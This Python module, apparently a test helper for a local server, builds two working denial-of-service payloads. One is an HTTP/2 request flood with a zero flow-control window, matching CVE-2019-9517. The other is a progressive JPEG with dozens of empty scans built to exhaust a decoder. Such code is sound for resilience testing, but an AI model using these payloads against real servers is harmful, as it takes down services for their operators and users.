"""Attacks that cost a server much and an attacker little: pictures with many scans, responses that nobody reads."""

import struct


def unread(portal, path: str, cookies: dict, requests: int):
    """An HTTP/2 connection with so many requests for a page, and no window for any response (CVE-2019-9517)."""
    stream = portal.socket(protocol="h2")
    settings = struct.pack(">HI", 4, 0)
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings))
    fields = {
        ":method": "GET",
        ":scheme": "https",
        ":authority": f"localhost:{portal.port}",
        ":path": path,
        "accept": "text/html",
        "cookie": "; ".join(f"{name}={value}" for name, value in cookies.items()),
    }
    block = b"".join(b"\0" + text(name) + text(value) for name, value in fields.items())
    for number in range(requests):
        stream.sendall(frame(1, 5, number * 2 + 1, block))
    return stream


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value: str) -> bytes:
    """A literal of HPACK (RFC 7541, 5.2), without Huffman's code."""
    value, length = value.encode(), b""
    left = len(value)
    if left < 127:
        return bytes([left]) + value
    length, left = b"\x7f", left - 127
    while left >= 128:
        length, left = length + bytes([left % 128 + 128]), left // 128
    return length + bytes([left]) + value


def exchange(portal, request: bytes) -> bytes:
    """The whole response to these bytes until the connection ends."""
    with portal.socket() as stream:
        heard = b""
        try:
            stream.sendall(request)
        except OSError:
            pass
        try:
            while part := stream.recv(65536):
                heard += part
        except OSError:
            pass
        return heard


def jpeg(width: int, height: int, scans: int) -> bytes:
    """A grey picture in up to 64 scans: one for the first coefficient, one for each of the others. A scan that has only
    ends of blocks is some bytes long, and a decoder visits every block for it."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    out = b"\xff\xd8" + segment(0xDB, b"\0" + b"\1" * 64)
    out += segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0")
    # Codes of one bit: no difference to the block before.
    out += segment(0xC4, b"\0" + bytes([1] + [0] * 15) + b"\0")
    # A code of one bit for 32,767 ends at most, and one of two bits for a single end.
    out += segment(0xC4, b"\x10" + bytes([1, 1] + [0] * 14) + b"\xe0\0")
    out += segment(0xDA, b"\1\1\0" + bytes([0, 0, 0])) + bits("0" * blocks)
    runs, left = "", blocks
    while left >= 16384:
        run = min(left, 32767)
        runs += "0" + format(run - 16384, "014b")
        left -= run
    runs += "10" * left
    for place in range(1, scans):
        out += segment(0xDA, b"\1\1\0" + bytes([place, place, 0])) + bits(runs)
    return out + b"\xff\xd9"


def segment(kind: int, content: bytes) -> bytes:
    return bytes([0xFF, kind]) + struct.pack(">H", len(content) + 2) + content


def bits(text: str) -> bytes:
    text += "1" * (-len(text) % 8)
    return int(text, 2).to_bytes(len(text) // 8, "big").replace(b"\xff", b"\xff\0")
